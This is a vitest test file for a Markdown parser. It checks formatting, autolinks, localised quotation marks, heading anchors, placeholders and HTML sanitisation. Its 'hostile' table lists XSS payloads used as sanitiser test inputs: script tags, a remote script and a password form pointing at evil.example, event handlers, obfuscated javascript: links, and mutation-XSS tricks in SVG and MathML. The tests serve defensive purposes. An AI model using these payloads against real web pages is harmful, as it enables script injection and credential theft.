import { expect, test } from 'vitest'
import {
  getPlainText,
  type RichTextNode,
  richTextTags,
  type RichText,
} from '#data/content/richText.ts'
import { parseMarkdown } from './markdown.ts'

const read = (markdown: string, catalogue: 'en' | 'de' | 'cn' = 'en'): RichText =>
  parseMarkdown(markdown, catalogue, (name) =>
    name === 'company'
      ? { text: 'company name, to be filled in', missing: true }
      : name === 'email'
        ? { text: 'contact@example.com', missing: false }
        : undefined,
  )

function* nodes(text: RichText): Generator<Exclude<RichTextNode, string>> {
  for (const node of text)
    if (typeof node !== 'string') {
      yield node
      yield* nodes(node.children ?? [])
    }
}
const links = (text: RichText) => [...nodes(text)].flatMap(({ href }) => href ?? [])
const tags = (text: RichText) => [...nodes(text)].map(({ tag }) => tag)

test('parses Markdown to elements', () => {
  expect(read('Text with **weight**.\n\n- one\n- two')).toEqual([
    { tag: 'p', children: ['Text with ', { tag: 'strong', children: ['weight'] }, '.'] },
    {
      tag: 'ul',
      children: [
        { tag: 'li', children: ['one'] },
        { tag: 'li', children: ['two'] },
      ],
    },
  ])
})

test('parses HTML in Markdown', () => {
  expect(read('H<sub>2</sub>O and <kbd>Esc</kbd>')).toEqual([
    {
      tag: 'p',
      children: ['H', { tag: 'sub', children: ['2'] }, 'O and ', { tag: 'kbd', children: ['Esc'] }],
    },
  ])
})

test('links web and mail addresses, with and without scheme', () => {
  expect(links(read('See example.com, https://example.org/a and mail@example.net.'))).toEqual([
    'http://example.com',
    'https://example.org/a',
    'mailto:mail@example.net',
  ])
})

test('uses the quotation marks of the language', () => {
  expect(getPlainText(read('"Day" ... (c)'))).toBe('“Day” … ©')
  expect(getPlainText(read('"Tag"', 'de'))).toBe('„Tag“')
})

test('joins a number and its unit with a no-break space', () => {
  expect(getPlainText(read('9.98 kWh, 5 volunteers, 10 A, 10 Amps'))).toBe(
    '9.98\u00A0kWh, 5 volunteers, 10\u00A0A, 10 Amps',
  )
})

test('gives headings their anchor or a numbered one', () => {
  const [first, second] = read('## Rights {#rights}\n\n## Contact')
  expect(first).toEqual({ tag: 'h2', id: 'rights', children: ['Rights'] })
  expect(second).toMatchObject({ id: 'part-2' })
})

test('marks values that the operator has not filled in', () => {
  expect(read('{company} and {other}')).toEqual([
    {
      tag: 'p',
      children: [{ tag: 'mark', children: ['company name, to be filled in'] }, ' and {other}'],
    },
  ])
})

test('links a mail address from a placeholder', () => {
  expect(links(read('Write to {email}.'))).toEqual(['mailto:contact@example.com'])
})

const hostile = {
  'a script': 'a <script>alert(1)</script> b',
  'a script that never ends': 'a <script>alert(1)',
  'a script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a style': '<style>@import url(//evil.example)</style>',
  'a refresh': '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  'a form': '<form action="https://evil.example"><input name=password></form>',
  'an event': '<b onclick="alert(1)">x</b><img src=x onerror=alert(1)>',
  'a drawing':
    '<svg><a href="javascript:alert(1)"><style><img src=x onerror=alert(1)></style></a></svg>',
  'a formula': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>',
  'a comment': '<!-- --!> <img src=x onerror=alert(1)> -->',
  'a script link': '<a href="javascript:alert(1)">x</a> [x](javascript:alert(1))',
  'a hidden script link':
    '<a href="java&#115;cript:alert(1)">x</a> <a href=" javascript:alert(1)">y</a>',
  'a data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'another site as a path': '[x](//evil.example) <a href="/\\evil.example">y</a>',
  'crossed tags': '<b><i>x</b></i></p></div></ul>',
} satisfies Readonly<Record<string, string>>

test.each(Object.entries(hostile))(
  'keeps only allowed elements and attributes of %s',
  (_, markdown) => {
    const text = read(`before\n\n${markdown}\n\nafter`)
    const known: readonly string[] = richTextTags
    for (const node of nodes(text)) {
      expect(known).toContain(node.tag)
      for (const key of Object.keys(node))
        expect(['tag', 'href', 'id', 'lang', 'title', 'start', 'align', 'children']).toContain(key)
    }
    expect(links(text)).toEqual([])
    expect(tags(text)).not.toContain('script')
    expect(getPlainText(text)).toContain('before')
  },
)

test('keeps the text after forbidden elements', () => {
  expect(getPlainText(read('<script>alert(1)</script>\n\nafter')).trim()).toBe('after')
  expect(getPlainText(read('a <b>c</i> d\n\nafter'))).toBe('a c dafter')
})
